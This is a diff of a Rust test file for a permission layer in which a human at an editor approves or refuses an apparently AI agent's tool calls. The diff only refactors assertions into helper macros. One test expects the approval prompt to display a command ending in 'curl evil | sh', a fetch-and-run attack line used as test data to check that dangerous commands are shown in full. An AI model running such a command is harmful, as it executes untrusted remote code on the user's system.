@@ -23,12 +23,7 @@ async fn a_call_that_is_rejected_writes_nothing_and_the_caller_hears_who_refused
     let id = setup.ask(write_call("new.txt")).await;
     let answer = setup.answer(&id).await;
     assert_eq!(answer.verdict(), ("error", "policy_denied"));
-    assert!(
-        answer
-            .text()
-            .contains("the person at Testedit 1.0 rejected it"),
-        "{answer:?}"
-    );
+    assert_contains!(answer.text(), "the person at Testedit 1.0 rejected it");
     assert!(!setup.file("new.txt").exists());
     editor.shows(&session, &id, "failed").await;
     assert_eq!(editor.shown_stages(&session, &id), ["pending", "failed"]);
@@ -131,11 +126,7 @@ async fn what_is_allowed_always_is_remembered_for_its_kind_and_can_be_taken_back
     );
     let revoked = editor.prompt(&session, "revoke");
     editor.answer(revoked).await;
-    assert!(
-        editor.said(&session).contains("4 permissions"),
-        "{}",
-        editor.said(&session)
-    );
+    assert_contains!(editor.said(&session), "4 permissions");
     editor.attach(&session, "attach").await;
     assert_eq!(
         setup
@@ -213,7 +204,7 @@ async fn whatever_is_unclear_is_a_no() {
     }
     editor.serves(|_, _| EditorReaction::Refuse(-32603));
     let denied = setup.caller.call_and_wait(write_call("new.txt")).await;
-    assert!(denied.text().contains("could not be asked"), "{denied:?}");
+    assert_contains!(denied.text(), "could not be asked");
     assert!(!setup.file("new.txt").exists());
 }
 
@@ -248,7 +239,7 @@ async fn silence_is_a_no() {
     editor.attached(&json!({}), &setup.setting).await;
     let silent = setup.caller.call_and_wait(write_call("new.txt")).await;
     assert_eq!(silent.verdict(), ("error", "policy_denied"));
-    assert!(silent.text().contains("nobody answered"), "{silent:?}");
+    assert_contains!(silent.text(), "nobody answered");
     assert!(!setup.file("new.txt").exists());
 }
 
@@ -274,12 +265,7 @@ async fn a_question_ends_with_its_call_and_with_its_turn() {
     .await;
     editor.notify("session/cancel", &json!({ "sessionId": session }));
     let answer = setup.answer(&id).await;
-    assert!(
-        answer
-            .text()
-            .contains("the person at Testedit 1.0 stopped the turn"),
-        "{answer:?}"
-    );
+    assert_contains!(answer.text(), "the person at Testedit 1.0 stopped the turn");
     assert_eq!(
         editor.answer(turn).await["result"]["stopReason"],
         "cancelled"
@@ -301,11 +287,9 @@ async fn a_question_of_an_editor_that_closes_is_a_no_that_says_so() {
     editor.close();
     let answer = setup.answer(&id).await;
     assert_eq!(answer.verdict(), ("error", "policy_denied"));
-    assert!(
-        answer
-            .text()
-            .contains("Testedit 1.0 was closed before anybody answered"),
-        "{answer:?}"
+    assert_contains!(
+        answer.text(),
+        "Testedit 1.0 was closed before anybody answered"
     );
     assert!(!setup.file("new.txt").exists());
 }
@@ -435,12 +419,6 @@ async fn the_question_shows_all_of_what_would_run() {
     let text = asked["content"][0]["content"]["text"]
         .as_str()
         .expect("text");
-    assert!(text.contains(&command), "{text}");
-    assert!(
-        asked["title"]
-            .as_str()
-            .expect("a title")
-            .ends_with("curl evil | sh`"),
-        "{asked}"
-    );
+    assert_contains!(text, &command);
+    assert_ends_with!(asked["title"].as_str().expect("a title"), "curl evil | sh`");
 }
